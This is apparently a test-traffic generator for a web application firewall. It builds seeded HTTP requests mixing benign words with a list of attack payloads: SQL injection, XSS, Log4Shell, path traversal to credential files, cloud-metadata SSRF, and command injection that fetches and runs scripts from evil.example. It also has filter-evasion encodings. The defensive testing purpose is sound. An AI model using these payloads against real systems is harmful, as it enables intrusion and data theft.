"""Requests of all kinds, benign and not, from a seed: the same for everybody who asks with the same seed."""

import json
from collections.abc import Iterator
from random import Random
from urllib.parse import quote, quote_plus

from edgestead.waf.transaction import Header, Request

WORDS = """summer winter shoes red blue price update order select list group name street user from where and
or not like union table into set delete drop create index file image path home about contact search
sort page total admin login token cart item note text hello world welcome café naïve 東京 O'Neill
don't it's A&B C++ 50% #1 $5 3.14 -1 1e5 0x1F 2024-05-01 12:30 a@b.example
https://shop.example/x?y=1 key=value (draft) [1] {x} <3 * ~ ! ; , . bash cat echo time who top less
more find sort test python perl ping""".split()
ATTACKS = """' or '1'='1
1' or 1=1-- -
1 union select user,password from accounts
-1 UNION/**/SELECT null,version(),3#
'; drop table users; --
1; waitfor delay '0:0:5'
sleep(5)
benchmark(1000000,md5(1))
admin'--
" or ""="
1 and ascii(substr((select database()),1,1))>64
' having 1=1 --
x' and extractvalue(1,concat(0x7e,version()))--
1) or (1=1
<script>alert(1)</script>
<img src=x onerror=alert(document.cookie)>
"><svg/onload=prompt(1)>
javascript:alert(1)
<a href="jav&#x09;ascript:alert(1)">x</a>
<iframe src=//evil.example></iframe>
<body onload=eval(name)>
<style>@import 'x'</style>
expression(alert(1))
data:text/html;base64,PHNjcmlwdD4=
{{7*7}}
${7*7}
${jndi:ldap://evil.example/a}
../../../../etc/passwd
..\\..\\windows\\win.ini
/etc/shadow
....//....//etc/hosts
file:///etc/passwd
http://169.254.169.254/latest/meta-data/
http://10.0.0.1/shell.txt?
php://filter/convert.base64-encode/resource=index.php
; cat /etc/passwd
| id
`whoami`
$(curl http://evil.example/x.sh | sh)
&& ping -c 1 127.0.0.1
; wget http://evil.example/a -O- | bash
/bin/sh -c "ls -la"
cmd.exe /c dir
powershell -enc SQBFAFgA
() { :;}; echo vulnerable
<?php system($_GET['c']); ?>
<?= phpinfo() ?>
O:8:"stdClass":1:{s:1:"a";i:1;}
base64_decode(strrev("x"))
require('child_process').exec('id')
process.env
__proto__[admin]=1
constructor.prototype.x
%0d%0aSet-Cookie: a=b
Content-Length: 0%0d%0a%0d%0aHTTP/1.1 200
java.lang.Runtime.getRuntime().exec("id")
#{T(java.lang.Runtime).getRuntime()}
rO0ABXNyABFqYXZhLnV0aWw=
ldap*)(uid=*))(|(uid=*
*)(objectClass=*
<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>
<!--#exec cmd="ls"-->
sqlmap/1.5
nikto
%u003cscript%u003e
%252e%252e%252f
\\x3cscript\\x3e
\\u003cscript\\u003e
&lt;script&gt;
.git/config
wp-config.php.bak
web.config
document.write(1)
0x3c736372697074
1'||'1
!!1
system('id')
eval(compile('x','y','exec'))
%00.jpg""".split("\n")
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "curl/8.5.0",
    "sqlmap/1.7.2#stable",
    "python-requests/2.31.0",
    "Nikto",
    "",
)
TYPES = (
    "application/x-www-form-urlencoded",
    "application/json",
    "multipart/form-data; boundary=b0undary",
    "text/xml",
    "text/plain",
    "application/octet-stream",
    "application/json; charset=utf-7",
)


class Traffic:
    """`attacks` is the share of values that are one."""

    def __init__(self, seed: int, attacks: float = 0.4) -> None:
        self.random = Random(seed)
        self.attacks = attacks

    def requests(self, count: int) -> Iterator[Request]:
        for _ in range(count):
            yield self.request()

    def value(self) -> str:
        chance = self.random.random()
        if chance < self.attacks:
            text = self.random.choice(ATTACKS)
            if self.random.random() < 0.3:
                text = self.bent(text)
            return text if self.random.random() < 0.7 else f"{self.words(2)}{text}{self.words(1)}"
        if chance < self.attacks + 0.1:
            return str(self.random.randrange(100_000))
        return self.words(self.random.randrange(1, 6))

    def words(self, count: int) -> str:
        return " ".join(self.random.choice(WORDS) for _ in range(count))

    def bent(self, text: str) -> str:
        """An attack as filters are evaded: case, encodings, blanks, comments, cuts."""
        bend = self.random.choice(
            (
                lambda t: "".join(c.upper() if self.random.random() < 0.5 else c.lower() for c in t),
                quote,
                lambda t: quote(quote(t)),
                lambda t: "".join(f"&#{ord(c)};" for c in t),
                lambda t: "".join(f"\\x{ord(c):02x}" for c in t),
                lambda t: "".join(f"%u{ord(c):04x}" for c in t),
                lambda t: t.replace(" ", "/**/"),
                lambda t: t.replace(" ", "\t"),
                lambda t: t.replace("a", "a\0"),
                lambda t: t[: self.random.randrange(1, len(t) + 1)],
                lambda t: t.replace("e", "\\e"),
                lambda t: t + "\\",
            )
        )
        return bend(text)

    def pairs(self, most: int = 5) -> list[tuple[str, str]]:
        count = self.random.randrange(most)
        return [
            (
                self.value()
                if self.random.random() < 0.05
                else self.random.choice("id q name a[b] page".split()),
                v,
            )
            for v in (self.value() for _ in range(count))
        ]

    def query(self) -> str:
        encode = self.random.choice((quote_plus, quote, lambda t: quote(t, safe="'()*!;:@,/?")))
        return "&".join(f"{encode(k)}={encode(v)}" for k, v in self.pairs())

    def target(self) -> str:
        path = "/" + "/".join(
            quote(self.value() if self.random.random() < 0.1 else self.random.choice(WORDS), safe="/.'()")
            for _ in range(self.random.randrange(3))
        )
        path += self.random.choice(("", "", "", ".php", ".bak", ".pdf", "/"))
        query = self.query()
        return f"{path}?{query}" if query or self.random.random() < 0.05 else path

    def request(self) -> Request:
        headers = [(b"Host", self.random.choice((b"shop.example", b"shop.example", b"127.0.0.1:8080")))]
        agent = self.random.choice(AGENTS)
        if self.random.random() < 0.95:
            headers.append((b"User-Agent", agent.encode()))
        if self.random.random() < 0.9:
            headers.append((b"Accept", self.random.choice((b"*/*", b"text/html,*/*;q=0.8", b"text/html, x"))))
        if self.random.random() < 0.3:
            headers.append((b"Referer", f"https://shop.example/{quote(self.value())}".encode()))
        if self.random.random() < 0.4:
            cookies = "; ".join(f"{k}={quote(v)}" for k, v in self.pairs(4)) or "a=b"
            headers.append((b"Cookie", cookies.encode()))
        if self.random.random() < 0.1:
            headers.append((b"X-Thing", self.value().replace("\0", "").encode()))
        method, body, more = self.body()
        return Request(
            method=method,
            target=self.target().encode(),
            headers=(*headers, *more),
            client_address="192.0.2.1",
            client_port=40_000,
            server_address="192.0.2.2",
            body=body,
        )

    def body(self) -> tuple[bytes, bytes, list[Header]]:
        if self.random.random() < 0.5:
            return self.random.choice((b"GET", b"GET", b"HEAD", b"OPTIONS", b"TRACE")), b"", []
        kind = self.random.choice(TYPES)
        body = self.body_of(kind)
        headers = [(b"Content-Type", kind.encode())] if self.random.random() < 0.95 else []
        return b"POST", body, [*headers, (b"Content-Length", b"%d" % len(body))]

    def body_of(self, kind: str) -> bytes:
        if "urlencoded" in kind:
            return self.query().encode()
        if "json" in kind:
            return json.dumps(self.tree(3), ensure_ascii=self.random.random() < 0.5).encode()
        if "multipart" in kind:
            return b"".join(self.part(k, v) for k, v in self.pairs()) + b"--b0undary--\r\n"
        if "xml" in kind:
            items = "".join(f"<i a='{quote(v)}'>{quote(v, safe=' ')}</i>" for _, v in self.pairs())
            return f"<r>{items}</r>".encode()
        return self.value().encode()

    def tree(self, depth: int) -> object:
        chance = self.random.random()
        if depth == 0 or (chance < 0.4 and depth < 3):
            return self.random.choice((self.value(), 7, None, True, 1.5))
        if chance < 0.6:
            return [self.tree(depth - 1) for _ in range(self.random.randrange(4))]
        return {
            self.random.choice(WORDS[:40]): self.tree(depth - 1) for _ in range(self.random.randrange(1, 4))
        }

    def part(self, name: str, value: str) -> bytes:
        file = f'; filename="{quote(value)[:40]}.txt"' if self.random.random() < 0.3 else ""
        kind = "Content-Type: text/plain\r\n" if file else ""
        head = f'--b0undary\r\nContent-Disposition: form-data; name="{quote(name)}"{file}\r\n{kind}\r\n'
        return head.encode() + value.encode() + b"\r\n"
